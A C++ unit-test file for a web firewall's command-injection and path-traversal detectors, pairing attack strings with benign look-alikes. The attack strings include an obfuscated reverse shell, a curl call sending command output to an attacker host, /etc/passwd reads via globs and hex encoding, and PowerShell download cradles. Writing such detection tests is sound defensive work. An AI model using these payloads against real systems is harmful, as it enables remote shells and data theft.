// Case tables for the command-injection and path-traversal classes added to cmdi_detector.cc
// and lfi_detector.cc: attacks that must be found, and hard benign values that must not.
#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "tests/cnaf/waf/waf_test_util.h"

namespace defender::cnaf::waf {
namespace {

using testing::detects;
using testing::table;


TEST(WafRceCases, CommandSubstitutionAfterPadding) {
  table(detect_cmdi,
        {std::string(40, 'A') + ";$(printf 'hsab/nib/ e- 4321 1.0.0.721 cn'|rev)",
         "xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx`id`",
         "name=$(whoami)"},
        {"$(document).ready(function(){})", "price $(USD) 5",
         "it costs $(10)", "`code` spans"});
}

TEST(WafRceCases, ATrailingNewlineMakesNoProse) {
  EXPECT_FALSE(looks_like_prose(";`cat<<<sh -c whoami`\n"));
  EXPECT_FALSE(looks_like_prose("\n\nid\r\n"));
  EXPECT_TRUE(looks_like_prose("first line\nsecond line"));
  EXPECT_TRUE(looks_like_prose("a sentence with more than six blanks in it"));
}

TEST(WafRceCases, SubstringExpansions) {
  table(detect_cmdi, {";${PATH:0:1}bin${PATH:0:1}cat ${HOME:0:1}etc/passwd", "${x:0:1}"},
        {"${HOME}/bin", "${name:-default}", "price: ${total}"});
}

TEST(WafRceCases, CodeFromStringFragments) {
  table(detect_code_injection,
        {"Ev al (\"Ex\"&\"e\"&\"cute(\"\"Server.ScriptTimeout=3600\")", "x='ev'+'al'+'(1)'",
         "CreateObject(\"WScript.Shell\").Run(\"calc\")"},
        {"\"Tom\" & \"Jerry\" are friends", "\"a long quoted sentence\" & \"another one\" & \"third\"",
         "say \"hi\" & \"bye\""});
}

TEST(WafRceCases, VariablesBracesAndGluedNames) {
  table(detect_cmdi,
        {"a=nc&&$a -nlvp 555", "a=curl&&b=`whoami`&&$a attacker.net/$b", "garb=adduse[r];$garb pizza",
         "a=/etc&&b=/passwd&&c=cat&&$c $a$b", "{,echo,#test}", "{,cd,/etc,}", "ping`` 127.0.0.1",
         "pi``ng 127.0.0.1", "pi<()ng 127.0.0.1", "find /etc -name passwd -exec cat {} +",
         "dd if=/etc/passwd of=/tmp/x bs=1"},
        {"a=1&b=2&c=3", "x=5; y=6", "price=$5", "{a,b,c}", "name=$name", "use ping to test", "find my keys",
         "a=b&&c=d"});
}

TEST(WafRceCases, BatchStatements) {
  table(detect_cmdi,
        {"& FOR %@ IN (a,b,c)DO cmd", "FOR /F \"delims=\" %G IN  ('ECHO foo')DO @Echo %G",
         "For /R C:\\temp\\ %G IN (*.bak) do Echo del \"%G\"", "IF CMDEXTVERSION 1 GOTO start",
         "IF 2 GEQ 15 echo \"bigger\"", "IF /I item1==item2 CMD", "if/i a==b foo", "IF X%1==X/? GOTO Help",
         "if \"!VAR!\" == \"after\" @echo ok", "if (%1)==(LTRS) CD C:\\WORD", "IF (2 GEQ 15) echo big"},
        {"if a == b then print end", "if x == 1: pass", "if a==b then x end", "if x==1 and y==2", "for item in (list) do something nice",
         "If you want, come", "if (a == b) { x(); }", "for all in (the world) don't stop"});
}

TEST(WafRceCases, AliasesAndPowerShell) {
  table(detect_cmdi,
        {"alias eennvv=env&eennvv whoami", "alias -p jzfrx=id", "alias +m a=b", "Invoke-WebRequest http://h/x.ps1",
         "Invoke-Expression -Command file.ps1", ";iwr http://h/x.ps1", ";iwmi -class Win32_process -name Create",
         "powershell C:\\windows\\system32\\notepad.exe", "(New-Object Net.WebClient).DownloadString('http://h')"},
        {"alias: Bob", "my alias is bob", "powershell tutorial for beginners", "invoke the expression",
         "start process"});
}

TEST(WafLfiCases, SensitiveFilesNamedByGlobs) {
  table(detect_lfi,
        {"cat /[?]tc/pa[?]swd", "/etc/pas[s]wd", "/etc/[!q]asswd", "/etc/[m-z]asswd", "cat /[e//]tc/[p//]asswd",
         "/bi[n]/bash", "/etc/pa*wd"},
        {"/* See feature_test_macros(7) */", "a /* comment */ b", "/api/v[12]/users", "/images/*.png", "ls /etc/*",
         "/docs/[draft]/readme"});
}

TEST(WafLfiCases, HexSpelledAndRootedClimbs) {
  table(detect_lfi,
        {"/..0x2f{file}", "/0x2e0x2e/etc/passwd", "/0x2e0x2e0x2f0x2e0x2e0x2fetc/passwd", "////../../x", "/./../../.x",
         "../../etc/passwd"},
        {"../README.md", "see ../docs", "0x2e is a dot", "version 0x2f", "/a/b/c", "./configure && make",
         "a/../b"});
}

}  // namespace
}  // namespace defender::cnaf::waf
